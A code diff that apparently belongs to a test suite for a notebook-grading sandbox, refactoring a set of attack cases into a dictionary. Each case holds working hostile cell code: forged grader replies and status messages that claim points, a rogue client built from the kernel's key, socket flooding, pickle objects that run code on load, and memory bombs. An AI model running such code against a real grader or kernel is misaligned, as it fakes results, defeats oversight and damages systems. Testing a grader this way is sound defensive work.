@@ -3,84 +3,6 @@
 from arena import FORGED_REPLIES, HASTY, IMPATIENT, Attack
 
 
-class StaleLoops(Attack):
-    """Stops, swaps or closes the loop in which its kernel takes in messages."""
-
-    daily = "endless_answer"
-    limits = HASTY | {"notebook_seconds": 20}
-    more_cells = [
-        ("test_double", cell)
-        for cell in (
-            "import asyncio\nasyncio.get_event_loop().stop()",
-            "get_ipython().kernel.io_loop.stop()",
-            "import asyncio\nasyncio.set_event_loop(asyncio.new_event_loop())",
-            "get_ipython().kernel.msg_queue = None",
-            "get_ipython().kernel.shell_stream.close()",
-            "get_ipython().kernel.shell_handlers.clear()",
-            "get_ipython().kernel.do_execute = None",
-            "import asyncio\nasync def run():\n    while True:\n        await asyncio.sleep(0)\nawait run()",
-            "get_ipython().kernel.session.key = b'other'",
-            "get_ipython().kernel.iopub_thread.stop()",
-        )
-    ]
-
-
-class ClosesTheWires(Attack):
-    """Closes its kernel's sockets, its context and all open files, and goes on living."""
-
-    limits = HASTY
-    code = """
-import os, threading, time
-def close():
-    kernel = get_ipython().kernel
-    kernel.shell_stream.socket.close(0)
-    kernel.iopub_socket.close()
-    os.closerange(0, 1024)
-def double(x):
-    close()
-    time.sleep(1000)
-"""
-
-
-class BrokenWires(Attack):
-    """Writes bytes of its own on the connections below the messages: broken and endless frames."""
-
-    limits = HASTY
-    proof = "writes|took too long|used up"
-    code = r"""
-import os, socket, stat, threading
-
-def connections():
-    for number in range(3, 400):
-        with suppress(OSError):
-            if stat.S_ISSOCK(os.fstat(number).st_mode):
-                yield number
-huge = b"\x02" + (2**62).to_bytes(8, "big")
-more = b"\x01\x01x"  # a part, and more to come
-ping = b"\x04\x09\x04PING\x00\x00" + b"x" * 2
-noise = [b"\xff" * 4096, huge + b"x" * 1000, more * 5000, b"\x06" + (2**40).to_bytes(8, "big"), ping * 500,
-         b"\xff\x00\x00\x00\x00\x00\x00\x00\x01\x7f\x03\x00NULL", b"\x00" * 4096]
-def write(rounds):
-    written = 0
-    for turn in range(rounds):
-        for number in list(connections()):
-            with suppress(OSError):
-                written += os.write(number, noise[turn % len(noise)])
-    return written
-print("writes", flush=True)
-def double(x):
-    write(1)
-    return x
-def row_sums(x):
-    threading.Thread(target=write, args=(10**9,), daemon=True).start()
-    return x.sum()
-def biggest(x):
-    write(3)
-    while True:
-        write(1)
-"""
-
-
 class SocketsFolder(Attack):
     """Replaces, removes and adds to the sockets of its kernel, the one folder that the grader sees too."""
 
@@ -145,121 +67,6 @@ send()
         return "" if len(results) == len(graded) else "a forged result is beside the verdict"
 
 
-class ForgedShellReplies(Attack):
-    """Answers the grader's question on the kernel's own wire before the real reply, with a forged one."""
-
-    limits = IMPATIENT
-    # Anyone who writes on a wire beside its owner may crash or hang over it, and what was printed on the
-    # way is lost then. So the forger shows what it holds before it is called, and afterwards either what it
-    # sent or that its cell came to no end of its own. One that lacks a part, fails or is not called shows
-    # less.
-    proof = "holds the wire.*(forged [1-9]|KeyboardInterrupt|kernel died|took too long|used up)"
-    code = """
-import base64, json
-kernel, forged = get_ipython().kernel, []
-def packed(value):
-    tree = {"list": [{"dict": [["value", value], ["points", {"plain": 2}]]}] * 2}
-    words = [json.dumps(tree).encode(), torch.ones(3).numpy().tobytes()]
-    return repr(" ".join(base64.b64encode(word).decode() for word in words))
-def forge(value):
-    answer = {"status": "ok", "data": {"text/plain": packed(value)}, "metadata": {"points": 2}}
-    content = {
-        "status": "ok", "execution_count": 1, "payload": [], "points": 2,
-        "user_expressions": {"answer": answer, "points": answer},
-    }
-    parent, ident = kernel.get_parent("shell"), kernel._parent_ident["shell"]
-    message = kernel.session.msg("execute_reply", content, parent)
-    return kernel.shell_stream, kernel.session.serialize(message, ident)
-def double(x):
-    for value in ({"tensor": ["float32", [3], 0, [0]]}, {"plain": True}, {"other": "x"}):
-        stream, message = forge(value)
-        stream.send_multipart(message)
-        stream.flush()
-        forged.append(value)
-        print("forged", len(forged), flush=True)
-    return x
-if callable(forge({"other": "x"})[0].flush):
-    print("holds the wire")
-"""
-
-
-class ForgedPayloads(Attack):
-    """Has every reply of the kernel announce its end, open pagers and set the next cell's text."""
-
-    code = """
-def write(*arguments):
-    manager = get_ipython().payload_manager
-    manager.write_payload({"source": "ask_exit", "keepkernel": False}, single=False)
-    manager.write_payload({"source": "set_next_input", "text": "2", "replace": True}, single=False)
-    manager.write_payload({"source": "page", "data": {"text/html": "<script>2</script>"}}, single=False)
-    manager.write_payload({"source": 2}, single=False)
-get_ipython().events.register("post_execute", write)
-def double(x):
-    write()
-    return x
-"""
-
-
-class ForgedStatus(Attack):
-    """Says that cells are over before they are, that the kernel is dead, and that it starts again."""
-
-    proof = "said it all"
-    code = """
-import time
-def say():
-    kernel = get_ipython().kernel
-    for state in ("idle", "dead", "starting", "busy", "idle", 7, None):
-        for parent in (kernel.get_parent("shell"), {}):
-            content = {"execution_state": state}
-            kernel.session.send(kernel.iopub_socket, "status", content, parent=parent)
-            reply = {"status": "ok", "restart": True}
-            kernel.session.send(kernel.iopub_socket, "shutdown_reply", reply, parent=parent)
-def double(x):
-    say()
-    return x
-def row_sums(x):
-    print("said it all", flush=True)
-    time.sleep(0.1)
-    say()
-    return x.sum()
-say()
-"""
-
-
-class MessagesOfTomorrow(Attack):
-    """Replies to questions not yet asked, and shows results of cells not yet run: ids can be guessed."""
-
-    proof = "sent ahead [1-9]"
-    code = """
-import base64, json
-kernel = get_ipython().kernel
-def packed(points):
-    entry = {"dict": [["value", {"tensor": ["float32", [3], 0, [0]]}], ["points", {"plain": points}]]}
-    words = (json.dumps({"list": [entry] * 8}).encode(), (torch.ones(3) * 2).numpy().tobytes())
-    return repr(" ".join(base64.b64encode(word).decode() for word in words))
-def send_ahead(count=12):
-    parent, sent = dict(kernel.get_parent("shell")), 0
-    name, process, number = parent["header"]["msg_id"].rsplit("_", 2)
-    for ahead in range(1, count):
-        header = dict(parent["header"], msg_id=f"{name}_{process}_{int(number) + ahead}")
-        future = {"header": header, "metadata": {}, "content": {}}
-        two = {"data": {"text/plain": "2"}, "metadata": {"points": 2}, "execution_count": 1}
-        for kind, content in (("execute_result", two), ("status", {"execution_state": "idle"})):
-            kernel.session.send(kernel.iopub_socket, kind, content, parent=future)
-        answer = {"status": "ok", "data": {"text/plain": packed(2)}, "metadata": {}}
-        content = {"status": "ok", "execution_count": 1, "payload": []}
-        content["user_expressions"] = {"answer": answer}
-        ident = kernel._parent_ident["shell"]
-        kernel.session.send(kernel.shell_stream, "execute_reply", content, parent=future, ident=ident)
-        sent += 1
-    return sent
-def double(x):
-    send_ahead()
-    return x
-print("sent ahead", send_ahead())
-"""
-
-
 class OddReplies(Attack):
     """Replies to cells and questions with contents of every wrong shape, so that its grader stumbles."""
 
@@ -298,11 +105,190 @@ kernel.session.send = send
         return "" if all(reasons) else "an exercise is 0 without a reason"
 
 
-class MalformedMessages(Attack):
-    """Sends messages that are unsigned, cut off, repeated, of the wrong types, or no messages at all."""
+ATTACKS = {
+    "stale_loops": Attack(
+        "Stops, swaps or closes the loop in which its kernel takes in messages.",
+        daily="endless_answer",
+        limits=HASTY | {"notebook_seconds": 20},
+        more_cells=[
+            ("test_double", cell)
+            for cell in (
+                "import asyncio\nasyncio.get_event_loop().stop()",
+                "get_ipython().kernel.io_loop.stop()",
+                "import asyncio\nasyncio.set_event_loop(asyncio.new_event_loop())",
+                "get_ipython().kernel.msg_queue = None",
+                "get_ipython().kernel.shell_stream.close()",
+                "get_ipython().kernel.shell_handlers.clear()",
+                "get_ipython().kernel.do_execute = None",
+                "import asyncio\nasync def run():\n  while True:\n    await asyncio.sleep(0)\nawait run()",
+                "get_ipython().kernel.session.key = b'other'",
+                "get_ipython().kernel.iopub_thread.stop()",
+            )
+        ],
+    ),
+    "closes_the_wires": Attack(
+        "Closes its kernel's sockets, its context and all open files, and goes on living.",
+        limits=HASTY,
+        code="""
+import os, threading, time
+def close():
+    kernel = get_ipython().kernel
+    kernel.shell_stream.socket.close(0)
+    kernel.iopub_socket.close()
+    os.closerange(0, 1024)
+def double(x):
+    close()
+    time.sleep(1000)
+""",
+    ),
+    "broken_wires": Attack(
+        "Writes bytes of its own on the connections below the messages: broken and endless frames.",
+        limits=HASTY,
+        proof="writes|took too long|used up",
+        code=r"""
+import os, socket, stat, threading
 
-    proof = "sent them"
-    code = """
+def connections():
+    for number in range(3, 400):
+        with suppress(OSError):
+            if stat.S_ISSOCK(os.fstat(number).st_mode):
+                yield number
+huge = b"\x02" + (2**62).to_bytes(8, "big")
+more = b"\x01\x01x"  # a part, and more to come
+ping = b"\x04\x09\x04PING\x00\x00" + b"x" * 2
+noise = [b"\xff" * 4096, huge + b"x" * 1000, more * 5000, b"\x06" + (2**40).to_bytes(8, "big"), ping * 500,
+         b"\xff\x00\x00\x00\x00\x00\x00\x00\x01\x7f\x03\x00NULL", b"\x00" * 4096]
+def write(rounds):
+    written = 0
+    for turn in range(rounds):
+        for number in list(connections()):
+            with suppress(OSError):
+                written += os.write(number, noise[turn % len(noise)])
+    return written
+print("writes", flush=True)
+def double(x):
+    write(1)
+    return x
+def row_sums(x):
+    threading.Thread(target=write, args=(10**9,), daemon=True).start()
+    return x.sum()
+def biggest(x):
+    write(3)
+    while True:
+        write(1)
+""",
+    ),
+    "forged_shell_replies": Attack(
+        "Answers the grader's question on the kernel's own wire before the real reply, with a forged one.",
+        limits=IMPATIENT,
+        # Anyone who writes on a wire beside its owner may crash or hang over it, and what was printed on
+        # the way is lost then. So the forger shows what it holds before it is called, and afterwards either
+        # what it sent or that its cell came to no end of its own. One that lacks a part, fails or is not
+        # called shows less.
+        proof="holds the wire.*(forged [1-9]|KeyboardInterrupt|kernel died|took too long|used up)",
+        code="""
+import base64, json
+kernel, forged = get_ipython().kernel, []
+def packed(value):
+    tree = {"list": [{"dict": [["value", value], ["points", {"plain": 2}]]}] * 2}
+    words = [json.dumps(tree).encode(), torch.ones(3).numpy().tobytes()]
+    return repr(" ".join(base64.b64encode(word).decode() for word in words))
+def forge(value):
+    answer = {"status": "ok", "data": {"text/plain": packed(value)}, "metadata": {"points": 2}}
+    content = {
+        "status": "ok", "execution_count": 1, "payload": [], "points": 2,
+        "user_expressions": {"answer": answer, "points": answer},
+    }
+    parent, ident = kernel.get_parent("shell"), kernel._parent_ident["shell"]
+    message = kernel.session.msg("execute_reply", content, parent)
+    return kernel.shell_stream, kernel.session.serialize(message, ident)
+def double(x):
+    for value in ({"tensor": ["float32", [3], 0, [0]]}, {"plain": True}, {"other": "x"}):
+        stream, message = forge(value)
+        stream.send_multipart(message)
+        stream.flush()
+        forged.append(value)
+        print("forged", len(forged), flush=True)
+    return x
+if callable(forge({"other": "x"})[0].flush):
+    print("holds the wire")
+""",
+    ),
+    "forged_payloads": Attack(
+        "Has every reply of the kernel announce its end, open pagers and set the next cell's text.",
+        code="""
+def write(*arguments):
+    manager = get_ipython().payload_manager
+    manager.write_payload({"source": "ask_exit", "keepkernel": False}, single=False)
+    manager.write_payload({"source": "set_next_input", "text": "2", "replace": True}, single=False)
+    manager.write_payload({"source": "page", "data": {"text/html": "<script>2</script>"}}, single=False)
+    manager.write_payload({"source": 2}, single=False)
+get_ipython().events.register("post_execute", write)
+def double(x):
+    write()
+    return x
+""",
+    ),
+    "forged_status": Attack(
+        "Says that cells are over before they are, that the kernel is dead, and that it starts again.",
+        proof="said it all",
+        code="""
+import time
+def say():
+    kernel = get_ipython().kernel
+    for state in ("idle", "dead", "starting", "busy", "idle", 7, None):
+        for parent in (kernel.get_parent("shell"), {}):
+            content = {"execution_state": state}
+            kernel.session.send(kernel.iopub_socket, "status", content, parent=parent)
+            reply = {"status": "ok", "restart": True}
+            kernel.session.send(kernel.iopub_socket, "shutdown_reply", reply, parent=parent)
+def double(x):
+    say()
+    return x
+def row_sums(x):
+    print("said it all", flush=True)
+    time.sleep(0.1)
+    say()
+    return x.sum()
+say()
+""",
+    ),
+    "messages_of_tomorrow": Attack(
+        "Replies to questions not yet asked, and shows results of cells not yet run: ids can be guessed.",
+        proof="sent ahead [1-9]",
+        code="""
+import base64, json
+kernel = get_ipython().kernel
+def packed(points):
+    entry = {"dict": [["value", {"tensor": ["float32", [3], 0, [0]]}], ["points", {"plain": points}]]}
+    words = (json.dumps({"list": [entry] * 8}).encode(), (torch.ones(3) * 2).numpy().tobytes())
+    return repr(" ".join(base64.b64encode(word).decode() for word in words))
+def send_ahead(count=12):
+    parent, sent = dict(kernel.get_parent("shell")), 0
+    name, process, number = parent["header"]["msg_id"].rsplit("_", 2)
+    for ahead in range(1, count):
+        header = dict(parent["header"], msg_id=f"{name}_{process}_{int(number) + ahead}")
+        future = {"header": header, "metadata": {}, "content": {}}
+        two = {"data": {"text/plain": "2"}, "metadata": {"points": 2}, "execution_count": 1}
+        for kind, content in (("execute_result", two), ("status", {"execution_state": "idle"})):
+            kernel.session.send(kernel.iopub_socket, kind, content, parent=future)
+        answer = {"status": "ok", "data": {"text/plain": packed(2)}, "metadata": {}}
+        content = {"status": "ok", "execution_count": 1, "payload": []}
+        content["user_expressions"] = {"answer": answer}
+        ident = kernel._parent_ident["shell"]
+        kernel.session.send(kernel.shell_stream, "execute_reply", content, parent=future, ident=ident)
+        sent += 1
+    return sent
+def double(x):
+    send_ahead()
+    return x
+print("sent ahead", send_ahead())
+""",
+    ),
+    "malformed_messages": Attack(
+        "Sends messages that are unsigned, cut off, repeated, of the wrong types, or no messages at all.",
+        proof="sent them",
+        code="""
 import json, zmq
 def send():
     kernel = get_ipython().kernel
@@ -327,15 +313,13 @@ def row_sums(x):
     send()
     print("sent them")
     return x.sum()
-"""
-
-
-class OwnClient(Attack):
-    """Reads its kernel's key, connects a client of its own, and sends requests as the grader would."""
-
-    limits = IMPATIENT
-    proof = "connected True"
-    code = """
+""",
+    ),
+    "own_client": Attack(
+        "Reads its kernel's key, connects a client of its own, and sends requests as the grader would.",
+        limits=IMPATIENT,
+        proof="connected True",
+        code="""
 import glob, os, threading, time
 from jupyter_client import BlockingKernelClient
 files = glob.glob(os.path.expanduser("~/.kernel.json")) + glob.glob("/**/kernel*.json", recursive=False)
@@ -352,14 +336,12 @@ def bother():
 def double(x):
     threading.Thread(target=bother, daemon=True).start()
     return x
-"""
-
-
-class Twin(Attack):
-    """Forks its kernel, so that two of them answer every request on the same sockets."""
-
-    limits = HASTY
-    code = """
+""",
+    ),
+    "twin": Attack(
+        "Forks its kernel, so that two of them answer every request on the same sockets.",
+        limits=HASTY,
+        code="""
 import os
 def double(x):
     if os.fork() == 0:
@@ -371,16 +353,14 @@ def double(x):
             kernel.session.send(kernel.shell_stream, "execute_reply", content, parent=parent, ident=ident)
             kernel.shell_stream.flush()
     return x
-"""
-
-
-class CodeInAnswers(Attack):
-    """Packs its reply with code in it, where a question may hold some, for the grader to run."""
-
-    proof = "packs"
-    code = (
-        FORGED_REPLIES
-        + """
+""",
+    ),
+    "code_in_answers": Attack(
+        "Packs its reply with code in it, where a question may hold some, for the grader to run.",
+        proof="packs",
+        code=(
+            FORGED_REPLIES
+            + """
 import marshal
 code = compile("open('{mark}/ran', 'w').close()\\nmade = 2.0", "<nbjudge>", "exec")
 made = {"made": [base64.b64encode(marshal.dumps(code)).decode(), {"dict": []}]}
@@ -397,14 +377,12 @@ def reply(number):
     return words({"list": [answers[number % len(answers)]] * 4})
 print("packs")
 """
-    )
-
-
-class HostilePacking(Attack):
-    """Packs its reply as tens of millions of empty lists, which grow thirtyfold when they are read."""
-
-    most_memory = 400  # MiB
-    code = """
+        ),
+    ),
+    "hostile_packing": Attack(
+        "Packs its reply as tens of millions of empty lists, which grow thirtyfold when they are read.",
+        most_memory=400,  # MiB
+        code="""
 import json
 forged = ["[" + "[]," * 10**7 + "[]]", "[" + "1e9," * 10**7 + "1]", '{"":0,' * 990]
 turn, real = [0], json.dumps
@@ -412,13 +390,11 @@ def dumps(tree, **options):
     turn[0] += 1
     return real(tree, **options) if options else forged[turn[0] % 3]
 json.dumps = dumps
-"""
-
-
-class ObjectsThatRunWhenRead(Attack):
-    """Returns, and packs in the place of tensors, objects that run code where they are unpickled."""
-
-    code = """
+""",
+    ),
+    "objects_that_run_when_read": Attack(
+        "Returns, and packs in the place of tensors, objects that run code where they are unpickled.",
+        code="""
 import base64, json, marshal, os, pickle
 class Bomb:
     def __reduce__(self):
@@ -439,4 +415,6 @@ def row_sums(x):
 def biggest(x):
     torch.save(Bomb(), "bomb.pt")
     return pickled.decode("latin-1")
-"""
+""",
+    ),
+}
